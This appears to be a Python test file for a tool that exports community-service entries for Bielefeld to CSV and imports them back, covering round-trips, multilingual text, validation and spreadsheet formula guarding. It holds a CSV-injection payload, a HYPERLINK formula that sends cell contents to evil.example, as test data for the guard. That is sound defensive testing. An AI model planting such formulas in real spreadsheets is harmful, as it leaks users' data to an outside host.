"""A coordinator exports the entries, edits them in a spreadsheet and imports them back:
nothing changes that they did not change, whatever the script, and a bad file writes nothing."""

from __future__ import annotations

import copy
import csv
import subprocess
import sys
import tempfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from knowledge.entry import FACTS, WEEKDAYS, Source, SourceDate
from knowledge.spreadsheet import COLUMNS, export_csv, guard_cell, import_csv, unguard_cell
from knowledge.validation import InvalidEntries, load_entries
from tests.conftest import BIELEFELD, PROJECT_ROOT
from tests.helpers.entries import VALID, write_entry
from texts import LANGUAGES, TOPICS

ARABIC = "ابتثجحخدذرسشصضطظعغفقكلمنهويءآأإىة"
DARI = "پچژگکیۀ" + ARABIC
UKRAINIAN = "абвгґдеєжзиіїйклмнопрстуфхцчшщьюяАБВГҐДЕЄІЇЮЯʼ"
LATIN = "abcdefghijklmnopqrstuvwxyzäöüßÄÖÜ"
SPREADSHEET_TROUBLE = ' ,;"\'§%-=+()0123456789'  # separators, quotes and formula signs
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")  # what Excel and LibreOffice may run (OWASP: CSV injection)


def text(alphabet: str, max_size: int = 60) -> st.SearchStrategy[str]:
    return st.text(alphabet + SPREADSHEET_TROUBLE, min_size=1, max_size=max_size).map(str.strip).filter(bool)


def translation(alphabet: str) -> st.SearchStrategy[dict]:
    return st.fixed_dictionaries(
        {"title": text(alphabet), "summary": st.lists(text(alphabet), min_size=1, max_size=3).map("\n".join)},
        optional={"offers": st.lists(text(alphabet, 40), max_size=4),
                  "keywords": st.lists(text(alphabet, 30), max_size=4),
                  "hours_note": text(alphabet), "cost": text(alphabet, 30), "appointment_info": text(alphabet)},
    )


hours = st.lists(
    st.fixed_dictionaries({"days": st.lists(st.sampled_from(WEEKDAYS), min_size=1, max_size=3, unique=True),
                           "opens": st.sampled_from(["07:30", "08:00", "09:15"]),
                           "closes": st.sampled_from(["12:00", "12:30"])}),
    max_size=1,
).map(lambda items: [*items, {"days": ["mon"], "opens": "13:00", "closes": "16:00"}] if items else items)


@st.composite
def documents(draw) -> dict:
    document = {
        "id": draw(st.from_regex(r"[a-z][a-z0-9]{0,10}(-[a-z0-9]{1,6})?", fullmatch=True)),
        "status": draw(st.sampled_from(["draft", "published", "archived"])),
        "topics": draw(st.lists(st.sampled_from(TOPICS), min_size=1, max_size=3, unique=True)),
        "organisation": draw(text(LATIN)),
        "address": {"street": draw(text(LATIN, 40)), "postcode": "33602", "city": "Bielefeld",
                    "district": draw(st.sampled_from(BIELEFELD.district_names))},
        "geo": draw(st.none() | st.fixed_dictionaries({"lat": st.floats(51.9, 52.1), "lon": st.floats(8.3, 8.7)})),
        "opening_hours": draw(hours),
        "appointment_required": draw(st.sampled_from([True, False, None])),
        "contact": {"phone": draw(st.sampled_from(["+49 521 51-0", "0521 5108-0", None])),
                    "website": "https://example.org/a?b=1,2"},
        "languages_spoken": draw(st.lists(st.sampled_from(["de", "ar", "Dari", "українська"]), max_size=3,
                                          unique=True)),
        "target_groups": draw(st.lists(text(LATIN + UKRAINIAN, 30), max_size=2)),
        "sources": draw(st.lists(st.fixed_dictionaries(
            {"url": st.sampled_from(["https://example.org/source", "Faltblatt der Stadt, Mai 2019",
                                     "https://example.org/a?b=1,2"]),
             "read_on": st.dates(date(2020, 1, 1), date(2026, 11, 30))},
            optional={"dated": st.sampled_from(["2004", "2019-05", "2024-02-29"]),
                      "facts": st.lists(st.sampled_from(FACTS), min_size=1, max_size=3, unique=True)}),
            min_size=1, max_size=3)),
        "last_verified": draw(st.none() | st.just(date(2026, 11, 1))),
        "translations": {"de": draw(translation(LATIN))},
    }
    alphabets = {"ar": ARABIC, "prs": DARI, "uk": UKRAINIAN, "en": LATIN}
    for language in draw(st.lists(st.sampled_from(LANGUAGES[1:]), unique=True)):
        document["translations"][language] = {**draw(translation(alphabets[language])), "source_hash": "0123abcd4567"}
    return {key: value for key, value in document.items() if value is not None}


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(entries=st.lists(documents(), min_size=1, max_size=3, unique_by=lambda d: d["id"]),
       separator=st.sampled_from([",", ";", "\t"]), bom=st.booleans())
def test_export_then_import_gives_back_identical_entries(entries, separator, bom):
    with tempfile.TemporaryDirectory() as folder:
        source, target, sheet = Path(folder, "source"), Path(folder, "target"), Path(folder, "entries.csv")
        source.mkdir()
        for document in entries:
            write_entry(source, document)
        export_csv(source, sheet, BIELEFELD.district_names)
        resave_as_spreadsheet(sheet, separator, bom)
        import_csv(sheet, target, BIELEFELD.district_names)
        assert load_entries(target, BIELEFELD.district_names) == load_entries(source, BIELEFELD.district_names)


def resave_as_spreadsheet(sheet: Path, separator: str, bom: bool) -> None:
    """What a spreadsheet program may do on saving: another separator, with or without BOM."""
    import csv
    import io

    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"), newline="")))
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=separator).writerows(rows)
    sheet.write_text(("\ufeff" if bom else "") + out.getvalue(), encoding="utf-8", newline="")


def exported(tmp_path: Path, *documents: dict) -> tuple[Path, Path]:
    entries = tmp_path / "entries"
    entries.mkdir()
    for document in documents:
        write_entry(entries, document)
    sheet = tmp_path / "entries.csv"
    export_csv(entries, sheet, BIELEFELD.district_names)
    return entries, sheet


def edit_cells(sheet: Path, changes: dict[tuple[str, str], str]) -> None:
    import csv

    with sheet.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    for (entry_id, column), value in changes.items():
        next(row for row in rows if row["id"] == entry_id)[column] = value
    with sheet.open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=COLUMNS)
        writer.writeheader()
        writer.writerows(rows)


def second_entry() -> dict:
    data = copy.deepcopy(VALID)
    data["id"] = "sprachcafe"
    data["translations"]["de"]["summary"] = "Deutsch üben.\nOhne Anmeldung."
    return data


def test_an_edit_in_the_spreadsheet_reaches_the_entry_file_and_other_files_stay_untouched(tmp_path):
    entries, sheet = exported(tmp_path, VALID, second_entry())
    untouched = entries / "sprachcafe.yml"
    untouched.write_text("# a coordinator's comment\n" + untouched.read_text(encoding="utf-8"), encoding="utf-8")
    edit_cells(sheet, {("vhs-integrationskurse", "translations.uk.title"): "Інтеграційні курси VHS",
                       ("vhs-integrationskurse", "opening_hours"): "mon-fri 08:00-12:00"})
    result = import_csv(sheet, entries, BIELEFELD.district_names)
    assert (result.written, result.unchanged) == (1, 1)
    entry = next(e for e in load_entries(entries, BIELEFELD.district_names) if e.id == "vhs-integrationskurse")
    assert entry.translations["uk"].title == "Інтеграційні курси VHS"
    assert [i.weekday for i in entry.opening_hours] == list(WEEKDAYS[:5])
    assert untouched.read_text(encoding="utf-8").startswith("# a coordinator's comment")


def test_what_german_spreadsheet_programs_make_of_dates_numbers_and_yes_no_is_understood(tmp_path):
    entries, sheet = exported(tmp_path, VALID)
    edit_cells(sheet, {("vhs-integrationskurse", "last_verified"): "01.11.2026",
                       ("vhs-integrationskurse", "sources"):
                           "https://example.org/flyer | read 22.11.2026 | dated 2019-05",
                       ("vhs-integrationskurse", "geo.lat"): "52,0211", ("vhs-integrationskurse", "geo.lon"): "8,5325",
                       ("vhs-integrationskurse", "appointment_required"): "WAHR"})
    import_csv(sheet, entries, BIELEFELD.district_names)
    (entry,) = load_entries(entries, BIELEFELD.district_names)
    assert entry.last_verified == date(2026, 11, 1)
    assert entry.sources == (Source("https://example.org/flyer", date(2026, 11, 22), SourceDate(2019, 5)),)
    assert entry.geo is not None
    assert (entry.geo.lat, entry.geo.lon, entry.appointment_required) == (52.0211, 8.5325, True)


def test_one_bad_row_rejects_the_whole_file_naming_the_line_and_writes_nothing(tmp_path):
    entries, sheet = exported(tmp_path, second_entry(), VALID)
    before = {path.name: path.read_bytes() for path in entries.iterdir()}
    edit_cells(sheet, {("vhs-integrationskurse", "translations.ar.title"): "جديد",
                       ("sprachcafe", "contact.email"): "not-an-address",
                       ("vhs-integrationskurse", "opening_hours"): "montags 8-12"})
    sheet_lines = sheet.read_text(encoding="utf-8-sig").splitlines()
    vhs_line = 1 + sheet_lines.index(next(line for line in sheet_lines if line.startswith("vhs-integrationskurse,")))
    assert vhs_line > 3  # the rows above hold cells of several lines
    with pytest.raises(InvalidEntries) as raised:
        import_csv(sheet, entries, BIELEFELD.district_names)
    messages = [str(problem) for problem in raised.value.problems]
    assert any(m.startswith(f"{sheet}:{vhs_line}:") and "opening_hours line 1" in m for m in messages)
    assert any(m.startswith(f"{sheet}:2:") and "'contact.email' is not a valid e-mail address" in m for m in messages)
    assert {path.name: path.read_bytes() for path in entries.iterdir()} == before


def test_a_sheet_with_missing_columns_or_another_encoding_is_rejected_with_a_hint(tmp_path):
    entries, sheet = exported(tmp_path, VALID)
    text = sheet.read_text(encoding="utf-8-sig")
    sheet.write_text(text.replace("contact.phone,", "", 1), encoding="utf-8")
    with pytest.raises(InvalidEntries, match=r"entries.csv:1: missing columns: contact.phone"):
        import_csv(sheet, entries, BIELEFELD.district_names)
    sheet.write_text(text.replace("Volkshochschule", "Volkshochschule Münster"), encoding="cp1252", errors="replace")
    with pytest.raises(InvalidEntries, match=r"entries.csv:\d+: not UTF-8 text: save it again"):
        import_csv(sheet, entries, BIELEFELD.district_names)


def test_cli_round_trip_keeps_arabic_dari_and_ukrainian_text(tmp_path):
    entries, _ = exported(tmp_path, VALID)
    sheet = tmp_path / "export.csv"

    def cli(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "knowledge", *args, "--entries", str(entries)],
                              capture_output=True, text=True, cwd=PROJECT_ROOT)

    assert cli("export", "--csv", str(sheet)).returncode == 0
    assert "دورات الاندماج" in sheet.read_text(encoding="utf-8-sig")
    result = cli("import", "--csv", str(sheet))
    assert result.returncode == 0 and "0 entry files written, 1 unchanged" in result.stdout
    sheet.write_text("id,status\nx,draft\n", encoding="utf-8")
    result = cli("import", "--csv", str(sheet))
    assert result.returncode == 1 and "missing columns" in result.stderr and "nothing was written" in result.stderr


def formula_entry() -> dict:
    data = copy.deepcopy(VALID)
    data["organisation"] = '=HYPERLINK("https://evil.example/?leak="&A1,"Klick hier")'
    data["translations"]["de"].update(title="@SUM(1)", summary="+1+1", offers=["-2+3", "Kurse A1 bis B1"],
                                      cost="'=1+1 ist schon ein Text")
    return data


def test_cells_a_spreadsheet_would_run_as_formulas_are_guarded_and_import_gives_them_back(tmp_path):
    entries, sheet = exported(tmp_path, formula_entry())
    with sheet.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_SIGNS)] == []
    assert {"'@SUM(1)", "'+1+1", "'-2+3\nKurse A1 bis B1", "''=1+1 ist schon ein Text", "'+49 521 000000"} <= set(cells)
    target = tmp_path / "imported"
    import_csv(sheet, target, BIELEFELD.district_names)
    assert load_entries(target, BIELEFELD.district_names) == load_entries(entries, BIELEFELD.district_names)
    (entry,) = load_entries(target, BIELEFELD.district_names)
    assert entry.organisation.startswith("=HYPERLINK(") and entry.contact.phone == "+49 521 000000"


@given(st.text(st.sampled_from((*FORMULA_SIGNS, "'", " ", "x")) | st.characters()))
def test_the_cell_guard_gives_back_any_text_and_leaves_no_cell_starting_a_formula(value):
    cell = guard_cell(value)
    assert unguard_cell(cell) == value
    assert not cell.startswith(FORMULA_SIGNS)
    assert cell in (value, f"'{value}")
